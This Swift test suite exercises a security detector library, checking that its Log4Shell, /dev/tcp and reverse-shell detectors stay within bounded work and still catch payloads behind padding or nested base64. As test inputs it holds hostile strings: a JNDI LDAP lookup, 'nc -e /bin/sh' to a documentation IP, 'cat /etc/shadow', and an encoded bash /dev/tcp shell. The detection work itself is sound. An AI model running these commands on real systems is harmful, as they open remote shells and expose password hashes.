import Bytes
import Foundation
import Testing

@testable import Detectors

/// Hostile text must cost what its length says. Steps are counted, not seconds.
@Suite struct WorkTests {
  private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

  @Test(arguments: ["R7am5ka", "JHtqbm", "revSkh0cWJt", "b64decodeJHske", "keyR7JHske"])
  func base64FullOfLeadsIsDecodedOnceForEachWayToGroupIt(lead: String) {
    let text = String(repeating: lead, count: (1 << 20) / lead.utf8.count)
    var judged = Log4ShellLeads.JudgedBase64()
    _ = text.withView { Log4ShellDetector().scan($0, .bytes, &judged) }
    // Four groupings, and windows that overlap by a sixteenth.
    #expect(judged.decoded <= text.utf8.count * 5, "\(judged.decoded)")
    #expect(judged.decoded > 0)
  }

  @Test func payloadBehindAHarmlessLeadIsSeen() {
    // The lead stands in the same run of digits but groups them otherwise.
    for before in ["/JHtqbn/", "/a/b/JHskex/", "x/R7am5kaQ/", ""] {
      let found = log4shell(before + base64("${jndi:ldap://h.example/a}"), .bytes)
      #expect(found?.host == "h.example", "\(before)")
    }
  }

  @Test func devicesOfOneCommandAskItOnce() {
    for (text, commands) in [
      (String(repeating: "/dev/tcp/a/1 ", count: 200), 1), (String(repeating: "/dev/tcp/a/1;", count: 200), 200),
    ] {
      text.withView { view in
        let facts = DevTCPMatcher.Facts(ShellText(view))
        #expect(DevTCPMatcher.matches(facts).isEmpty)
        #expect(facts.commandsAsked == commands)
      }
    }
  }

  @Test(arguments: [
    "%2fdev%2f''\\44;", "b\\ash\\44L2Rldi90Y3AvYS8xIAo=", "{echo,a} ${IFS}\\u0041 ?a=b%41+",
    "YmFzaCAtaSA+JiAvZGV2L3RjcC9hLzEK ",
  ])
  func layersGrowNoFurtherThanSomeTimesTheText(unit: String) {
    let text = String(repeating: unit, count: 10_000 / unit.utf8.count)
    let layers = text.withView { CommandLayers.unwrap($0) }
    let all = layers.reduce(0) { $0 + $1.text.count }
    #expect(all <= text.utf8.count * CommandLayers.maximumGrowth + 4096)
    #expect(!layers.isEmpty)
  }

  @Test func piecesOfBase64AreJoinedOnce() {
    let text = String(repeating: "echo YWJjZGVmZ2hp;echo amtsbW5vcHFy\n", count: 4000)
    let joined = text.withView { Base64Pieces.joined(in: $0) }
    #expect(!joined.isEmpty)
    // All pieces, and all but the last.
    #expect(joined.reduce(0) { $0 + $1.digits.count } <= text.utf8.count * 2)
    // Words with blanks between are none.
    #expect("base64 decoding everything blankly".withView { Base64Pieces.joined(in: $0) }.isEmpty)
  }

  @Test func shortWrappingsAreUndoneToTheEnd() {
    var text = "nc -e /bin/sh 198.51.100.9 4242"
    for _ in 0..<8 { text = "echo \(base64(text)) | base64 -d | sh" }
    let found = text.withView { ReverseShellDetector().scan($0, .command) }
    #expect(found.first?.host == "198.51.100.9")
  }

  @Test(arguments: ["wget\\&", "x", "%26nc\0id_ecdsa$6$", "'a' \"b\" ", String(repeating: "padding ", count: 30)])
  func whatOnlyRepeatsIsTakenOut(unit: String) {
    let text = String(repeating: unit, count: 100_000 / unit.utf8.count)
    let short = (text + "; nc -e /bin/sh 198.51.100.9 4242; " + text).withView { Repeats.removed(from: $0) } ?? []
    #expect(short.count < 20_000)
    short.withView { view in
      #expect(view.contains("; nc -e /bin/sh 198.51.100.9 4242; "))
      #expect(view.contains("\0") == unit.utf8.contains(0))
    }
  }

  @Test func nothingIsTakenOutOfWhatDiffers() {
    let text = (0..<4000).map { "line \($0) of many;" }.joined(separator: "\n")
    #expect(text.withView { Repeats.removed(from: $0) } == nil)
    #expect("aaaa".withView { Repeats.removed(from: $0) } == nil)
  }

  /// Padding does not push a command out of view.
  @Test func aCommandBehindPaddingIsSeen() {
    let text = String(repeating: "# nothing to see\n", count: 5000) + "nc -e /bin/sh 198.51.100.9 4242"
    let found = text.withView { TextDetectors.scan($0, .command) }
    #expect(found.contains { $0.host == "198.51.100.9" && $0.range == 0..<text.utf8.count })
    let shadow = String(repeating: " ", count: 40_000) + "cat /etc/shadow"
    #expect(shadow.withView { TextDetectors.scan($0, .command) }.contains { $0.rule == "behaviour.password-hashes" })
  }

  @Test func theSieveNeverDeniesWhatIsThere() {
    let text = (0..<600).map { "word\($0) /etc/ld.so.preload" }.joined(separator: " ")
    text.withView { view in
      let sieve = TextSieve(view)
      for literal: StaticString in ["/etc/ld.so.preload", "word599", "wo", "d0 /", ""] {
        #expect(sieve.mayHold(literal))
      }
      #expect(!sieve.mayHold("crontab -l"))
    }
  }

  @Test func validTextIsToldAsTheStringTypeTellsIt() {
    var state: UInt64 = 9
    for _ in 0..<20_000 {
      var bytes: [UInt8] = []
      for _ in 0..<4 {
        state = state &* 6_364_136_223_846_793_005 &+ 1
        let edges: [UInt8] = [
          0x41, 0x7F, 0x80, 0x8F, 0x90, 0x9F, 0xA0, 0xBF, 0xC1, 0xC2, 0xDF, 0xE0, 0xED, 0xEF, 0xF0, 0xF4, 0xF5,
        ]
        bytes.append(edges[Int(state >> 33) % edges.count])
      }
      #expect(bytes.withView { Base64.isUTF8($0) } == (String(validating: bytes, as: UTF8.self) != nil))
    }
  }

  @Test func runsOfDigitsAreThoseOfASlowLook() {
    var state: UInt64 = 4
    let pieces = ["A", "bc", "0123456789", "=", " ", "-_", "=="]
    for _ in 0..<500 {
      var text = ""
      for _ in 0..<40 {
        state = state &* 6_364_136_223_846_793_005 &+ 1
        text += pieces[Int(state >> 33) % pieces.count]
      }
      text.withView { view in
        var slow: [Range<Int>] = []
        var place = 0
        while place < view.count {
          let start = place
          while place < view.count, Base64.digits.contains(view[place]) { place += 1 }
          let digits = place
          guard digits - start >= 12 else {
            place += 1
            continue
          }
          while place < view.count, place - digits < 2, view[place] == 0x3D { place += 1 }
          slow.append(start..<place)
        }
        #expect(Base64.runs(in: view, minimum: 12) == slow)
      }
    }
  }

  @Test func wordsAreFoundWhereTheyStandFirst() {
    let finder = WordFinder(["net.", "net.Dial", "connect(", "`", "con"])
    let numbers = finder.numbers(["net.Dial", "con", "`", "nothing"])
    #expect(numbers == [1, 4, 3])
    let places = "x net.D net.Dial` connect(".withView { finder.places(in: $0) }
    #expect(places == [2, 8, 18, 16, 18])
    #expect("".withView { finder.places(in: $0) } == [-1, -1, -1, -1, -1])
  }
}
